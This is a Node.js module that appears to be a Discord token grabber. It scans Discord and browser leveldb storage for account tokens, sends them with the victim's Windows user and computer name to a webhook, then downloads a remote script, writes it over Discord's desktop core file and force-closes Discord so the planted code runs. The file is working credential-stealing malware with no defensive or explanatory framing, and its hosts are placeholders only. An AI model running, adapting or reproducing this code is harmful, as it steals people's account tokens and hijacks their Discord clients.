const fs = require('fs');
const path = require('path');
const https = require('https');
const { execSync } = require('child_process');

const roaming = process.env.APPDATA || '';
const local = process.env.LOCALAPPDATA || '';
const hook = ['https://discord.example.test', 'api', 'webhooks', '000000000000000000', 'AAAA'].join('/');

const paths = [
    path.join(roaming, 'discord', 'Local Storage', 'leveldb'),
    path.join(roaming, 'discordptb', 'Local Storage', 'leveldb'),
    path.join(roaming, 'discordcanary', 'Local Storage', 'leveldb'),
    path.join(roaming, 'Opera Software', 'Opera Stable', 'Local Storage', 'leveldb'),
    path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb'),
    path.join(local, 'BraveSoftware', 'Brave-Browser', 'User Data', 'Default', 'Local Storage', 'leveldb'),
];

function send(obj) {
    return new Promise((done) => {
        const u = new URL(hook);
        const r = https.request({ host: u.host, path: u.pathname, method: 'POST', headers: { 'content-type': 'application/json' } }, done);
        r.on('error', done);
        r.end(JSON.stringify(obj));
    });
}

function tokensIn(dir) {
    const found = new Set();
    for (const f of fs.readdirSync(dir)) {
        if (!f.endsWith('.log') && !f.endsWith('.ldb')) continue;
        for (const line of fs.readFileSync(path.join(dir, f), 'utf8').split(/\r?\n/)) {
            for (const re of [/mfa\.[\w-]{84}/g, /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g, /dQw4w9WgXcQ:[^.*\['(.*)'\].*$][^"]*/g]) {
                const m = line.match(re);
                if (m) m.forEach((t) => found.add(t));
            }
        }
    }
    return [...found];
}

function inject() {
    for (const flavour of ['Discord', 'DiscordCanary', 'DiscordPTB']) {
        const base = path.join(local, flavour);
        if (!fs.existsSync(base)) continue;
        for (const app of fs.readdirSync(base).filter((d) => d.startsWith('app-'))) {
            const mods = path.join(base, app, 'modules');
            if (!fs.existsSync(mods)) continue;
            for (const m of fs.readdirSync(mods).filter((d) => /discord_desktop_core/.test(d))) {
                const target = path.join(mods, m, 'discord_desktop_core', 'index.js');
                https.get('https://raw.example.test/zeroxz/injection/main/inject.js', (res) => {
                    let s = '';
                    res.on('data', (d) => (s += d));
                    res.on('end', () => fs.writeFileSync(target, s.replace('%WEBHOOK%', hook)));
                }).on('error', () => {});
            }
        }
        try { execSync(`taskkill /IM ${flavour}.exe /F`, { stdio: 'ignore' }); } catch (e) {}
    }
}

module.exports = async function () {
    if (process.platform !== 'win32') return;
    let all = [];
    for (const p of paths) {
        try { all = all.concat(tokensIn(p)); } catch (e) {}
    }
    if (all.length) {
        await send({
            username: 'grabber',
            embeds: [{ title: process.env.USERNAME + ' @ ' + process.env.COMPUTERNAME, description: '```' + all.join('\n') + '```', color: 0xff0000 }],
        });
    }
    inject();
};
